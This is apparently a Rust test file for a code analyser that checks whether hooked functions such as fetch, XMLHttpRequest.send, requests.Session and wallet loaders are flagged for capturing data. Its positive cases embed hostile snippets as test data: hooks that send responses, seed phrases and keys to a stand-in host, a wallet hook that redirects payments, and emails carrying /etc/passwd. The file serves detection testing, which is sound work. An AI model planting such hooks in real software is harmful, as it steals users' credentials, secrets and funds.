//! What passes through a function that is put in the place of another's, and where it goes.

use rstest::rstest;

use cerebro::behavior::Feature;

use super::steps;

/// The details of a file's steps; of hooks with what they capture.
fn details(path: &str, source: &str) -> Vec<String> {
    let told = |step: cerebro::behavior::Step| match step.feature {
        Feature::CaptureInput => format!("capture {}", step.detail),
        _ => step.detail,
    };
    steps(path, source).into_iter().map(told).collect()
}

/// Sent to an address of the code's own.
#[rstest]
#[case(
    "a.js",
    "const o = fetch; globalThis.fetch = async (u, i) => { const r = await o(u, i);\n\
     o('https://c.example.com/', { method: 'POST', body: await r.clone().text() }); return r }"
)]
#[case(
    "a.js",
    "const P = XMLHttpRequest.prototype, s = P.send; P.send = function (body) {\n\
     navigator.sendBeacon('https://c.example.com/', body); return s.call(this, body) }"
)]
#[case(
    "a.js",
    "const M = require('module'), https = require('https'), l = M._load; M._load = function (name) {\n\
     const m = l.apply(this, arguments); const c = m.config; m.config = o => { const r = c(o);\n\
     https.request({ host: 'c.example.com', method: 'POST' }).end(JSON.stringify(r)); return r }; return m }"
)]
#[case(
    "a.js",
    "const c = require('other-client'), w = c.Wallet.from; c.Wallet.from = function (words) {\n\
     fetch('https://c.example.com/?w=' + words); return w.call(this, words) }"
)]
#[case(
    "a.py",
    "import requests\nold = requests.Session.request\ndef request(self, method, url, **options):\n\
     \x20   old(self, 'POST', 'https://c.example.com/', data=str(options))\n\
     \x20   return old(self, method, url, **options)\nrequests.Session.request = request"
)]
#[case(
    "a.py",
    "import threading, requests\nfrom kit import Keys\nold = Keys.load\ndef load(seed):\n\
     \x20   threading.Thread(target=requests.post, args=('https://c.example.com/',), kwargs={'json': seed}).start()\n\
     \x20   return old(seed)\nKeys.load = staticmethod(load)"
)]
fn what_passes_is_sent_elsewhere(#[case] path: &str, #[case] source: &str) {
    let found = details(path, source);
    assert!(found.iter().any(|detail| detail == "send traffic"), "{found:?}");
    assert!(found.iter().any(|detail| detail.starts_with("capture ")), "{found:?}");
}

/// A request that is watched, changed or retried goes where its caller sends it.
#[rstest]
#[case("a.js", "const o = fetch; globalThis.fetch = (u, i) => { console.log(u); return o(u, i) }")]
#[case("a.js", "const o = fetch; globalThis.fetch = (u, i) => o('https://mirror.example.com' + u, i)")]
#[case(
    "a.js",
    "const P = XMLHttpRequest.prototype, s = P.send; P.send = function (b) { this.t = Date.now(); return s.call(this, b) }"
)]
#[case(
    "a.js",
    "const http = require('http'), r = http.request; http.request = function (o, f) { o.agent = agent; return r(o, f) }"
)]
#[case("a.js", "const l = console.log; console.log = function (...a) { l.apply(console, a) }")]
#[case(
    "a.py",
    "import requests\nold = requests.Session.send\ndef send(self, request, **k):\n    k.setdefault('timeout', 5)\n\
     \x20   return old(self, request, **k)\nrequests.Session.send = send"
)]
#[case(
    "a.py",
    "import socket\nold = socket.socket.sendall\ndef sendall(self, data):\n    return old(self, data)\nsocket.socket.sendall = sendall"
)]
fn what_passes_goes_on(#[case] path: &str, #[case] source: &str) {
    let found = details(path, source);
    assert!(!found.iter().any(|detail| detail == "send traffic" || detail == "capture calls"), "{found:?}");
}

#[test]
fn money_that_passes_is_sent_to_another() {
    let source = "const e = window.ethereum, r = e.request; e.request = async a => {\n\
                  a.params[0].to = '0x00000000000000000000000000000000000000ff'; return r(a) }";
    assert!(details("a.js", source).iter().any(|detail| detail == "capture wallet recipient"));
}

/// A message holds what it was given.
#[rstest]
#[case("m = EmailMessage(); m.set_content(open('/etc/passwd').read())")]
#[case("m = MIMEMultipart()\nfor part in [open('/etc/passwd').read()]: m.attach(MIMEText(part))")]
fn messages_carry_their_parts(#[case] message: &str) {
    let source = format!(
        "import smtplib\nfrom email.message import EmailMessage\nfrom email.mime.multipart import MIMEMultipart\n\
         from email.mime.text import MIMEText\n{message}\nwith smtplib.SMTP('mail.example.com') as s: s.send_message(m)"
    );
    let found = details("a.py", &source);
    assert!(found.iter().any(|detail| detail == "send secret" || detail == "send file"), "{found:?}");
}
